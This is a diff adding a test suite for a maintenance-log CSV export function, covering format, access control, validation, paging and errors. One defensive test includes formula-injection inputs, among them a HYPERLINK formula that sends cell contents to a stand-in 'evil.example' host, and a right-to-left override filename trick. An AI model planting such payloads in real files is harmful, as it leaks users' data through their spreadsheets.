@@ -1,0 +1,202 @@
+import { randomUUID } from 'node:crypto'
+import { restoreCell } from '@tappet/upkeep'
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
+import { startServer, type TestServer } from '../harness/server.ts'
+import { type Driver, type Entry, keepRecords, newDriver, post } from './exports-account.ts'
+import { type DenoFunction, serveWithDeno } from './functions-deno.ts'
+
+let server: TestServer
+let deno: DenoFunction
+beforeAll(async () => {
+  server = await startServer({ adminUrl: inject('adminUrl') })
+  deno = await serveWithDeno('export-csv', server)
+})
+afterAll(async () => {
+  await deno.stop()
+  await server.close()
+})
+
+const HEADER = 'Item,Date,Mileage (miles),Cost (USD),Notes,Receipt'
+const hosts: [string, () => string][] = [
+  ['our server', () => `${server.url}/functions/v1/export-csv`],
+  ['Deno', () => deno.url],
+]
+
+/** A file of RFC 4180, each quoted or plain cell as it was written. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  for (const [, quoted, plain, end] of text
+    .replace(/^\uFEFF/, '')
+    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+    if (end === '' && quoted === undefined && plain === '') break
+    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
+    if (end === '\r\n') rows.push([])
+  }
+  return rows.filter((row) => row.length > 0)
+}
+
+describe.each(hosts)('export-csv on %s', (_, url) => {
+  const exported = async (driver: Driver) => {
+    const response = await post(url(), driver.token, { type: 'maintenance', user_id: driver.id })
+    const bytes = new Uint8Array(await response.arrayBuffer())
+    return { response, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes) }
+  }
+  const rowsOf = readCsv
+
+  it('[API-038] [MNT-005] answers a file of the caller’s records, for FREE too: BOM, header, ISO days, CRLF', async () => {
+    const driver = await newDriver(server)
+    await keepRecords(server, driver, [
+      {
+        date: '2026-03-05',
+        mileage: 62_000,
+        cost: 49.9,
+        notes: 'Full synthetic, 0W-20',
+        receipt_url: 'https://x.example/1.jpg',
+      },
+      { item: 'Tires', date: '2026-04-01' },
+    ])
+    const { response, bytes, text } = await exported(driver)
+    expect(response.status).toBe(200)
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+    expect(response.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="tappet-maintenance-\d{4}-\d\d-\d\d\.csv"$/,
+    )
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    expect(text).toBe(
+      `\uFEFF${HEADER}\r\nTires,2026-04-01,,,,\r\n` +
+        'Oil Change,2026-03-05,62000,49.90,"Full synthetic, 0W-20",https://x.example/1.jpg\r\n',
+    )
+  })
+
+  it('[API-038] gives nobody else’s records, and refuses to be asked for them', async () => {
+    const [ada, ben] = [await newDriver(server), await newDriver(server, 'PRO')]
+    await keepRecords(server, ada, [{ item: 'Ada’s' }])
+    await keepRecords(server, ben, [{ item: 'Ben’s' }])
+    expect((await exported(ada)).text).not.toContain('Ben’s')
+    const foreign = await post(url(), ada.token, { type: 'maintenance', user_id: ben.id })
+    expect([foreign.status, await foreign.json()]).toEqual([
+      403,
+      { error: 'You can export your own records only', code: 'forbidden' },
+    ])
+    const visitor = await post(url(), server.anonKey, { type: 'maintenance', user_id: ada.id })
+    expect(visitor.status).toBe(401)
+    await visitor.text()
+  })
+
+  it('[API-038] says what is wrong with any other body', async () => {
+    const driver = await newDriver(server)
+    for (const [body, field] of [
+      [{ type: 'history', user_id: driver.id }, 'type'],
+      [{ type: 'maintenance' }, 'user_id'],
+      [{ type: 'maintenance', user_id: 'me' }, 'user_id'],
+      [{}, 'type'],
+    ] as const) {
+      const response = await post(url(), driver.token, body)
+      expect(response.status).toBe(400)
+      expect((await response.json()).error).toContain(field)
+    }
+  })
+
+  it('leaves no formula to run, and loses no letter of what was written', async () => {
+    const driver = await newDriver(server)
+    const hostile: Entry[] = [
+      '=HYPERLINK("http://evil.example?"&A1,"win")',
+      '+1-800',
+      '-2+3',
+      '@SUM(1)',
+      '\t=1',
+      '\r=1',
+      "'=quoted",
+      'plain',
+      'a "quoted", word',
+      'two\r\nlines',
+      'one\nline',
+      'مرحبا بالعالم',
+      '\u202Egnp.exe',
+      '🚗💨 👨‍👩‍👧',
+      'x'.repeat(10_000),
+      '日本語',
+      'ﾊﾝｶｸ',
+    ].map((notes, index) => ({ item: notes.slice(0, 150).trim() || 'x', notes, mileage: index, cost: index }))
+    await keepRecords(server, driver, hostile)
+    const { text } = await exported(driver)
+    const rows = rowsOf(text).slice(1)
+    expect(rows).toHaveLength(hostile.length)
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    const back = rows.map((row) => row.map(restoreCell)).sort((a, b) => Number(a[2]) - Number(b[2]))
+    expect(back.map((row) => [row[0], row[4]])).toEqual(hostile.map(({ item, notes }) => [item, notes]))
+  })
+
+  it('gives every record once, however many, the newest first', async () => {
+    const driver = await newDriver(server)
+    // Many on the same day, so that a page ends in the middle of one.
+    const entries = Array.from({ length: 2_345 }, (_, index) => ({
+      item: `Record ${index}`,
+      date: `2026-0${1 + (index % 3)}-15`,
+    }))
+    await keepRecords(server, driver, entries)
+    const rows = rowsOf((await exported(driver)).text).slice(1)
+    expect(new Set(rows.map(([item]) => item)).size).toBe(2_345)
+    expect(rows).toHaveLength(2_345)
+    const days = rows.map(([, day]) => day ?? '')
+    expect(days).toEqual(days.toSorted().reverse())
+  })
+
+  it('gives an empty log as a header', async () => {
+    const driver = await newDriver(server)
+    expect((await exported(driver)).text).toBe(`\uFEFF${HEADER}\r\n`)
+  })
+})
+
+describe('export-csv', () => {
+  it('[ERR-023] can be called as the app calls it', async () => {
+    const driver = await newDriver(server)
+    await keepRecords(server, driver, [{ item: 'Oil Change' }])
+    const { data, error } = await driver.client.functions.invoke('export-csv', {
+      body: { type: 'maintenance', user_id: driver.id },
+    })
+    expect(error).toBeNull()
+    // fetch's text() takes the mark off; who saves it puts it back.
+    expect(data).toBe(`${HEADER}\r\nOil Change,2026-05-01,,,,\r\n`)
+  })
+
+  it('reads on where a server cuts its answers short', async () => {
+    const driver = await newDriver(server)
+    await keepRecords(
+      server,
+      driver,
+      Array.from({ length: 25 }, (_, n) => ({ item: `Record ${n}` })),
+    )
+    const { logPages } = await import('../../supabase/functions/_serve/log-pages.ts')
+    const { createClient } = await import('@supabase/supabase-js')
+    const short = createClient(server.url, server.anonKey, {
+      accessToken: async () => driver.token,
+      global: { fetch: (input, init) => fetch(String(input).replace('limit=1000', 'limit=10'), init) },
+    })
+    const pages: string[][] = []
+    for await (const page of logPages(short, driver.id)) pages.push(page.map(({ item }) => item))
+    expect(pages.map((page) => page.length)).toEqual([10, 10, 5])
+    expect(new Set(pages.flat()).size).toBe(25)
+  })
+
+  it('says plainly that it failed when the log can not be read, instead of sending half a file', async () => {
+    const driver = await newDriver(server)
+    await server.admin('revoke select on maintenance from authenticated')
+    const response = await post(`${server.url}/functions/v1/export-csv`, driver.token, {
+      type: 'maintenance',
+      user_id: driver.id,
+    })
+    await server.admin('grant select on maintenance to authenticated')
+    expect([response.status, (await response.json()).code]).toEqual([500, 'internal'])
+  })
+
+  it('takes no id but a person’s own, whoever they are', async () => {
+    const driver = await newDriver(server)
+    const response = await post(`${server.url}/functions/v1/export-csv`, driver.token, {
+      type: 'maintenance',
+      user_id: randomUUID(),
+    })
+    expect(response.status).toBe(403)
+    await response.text()
+  })
+})
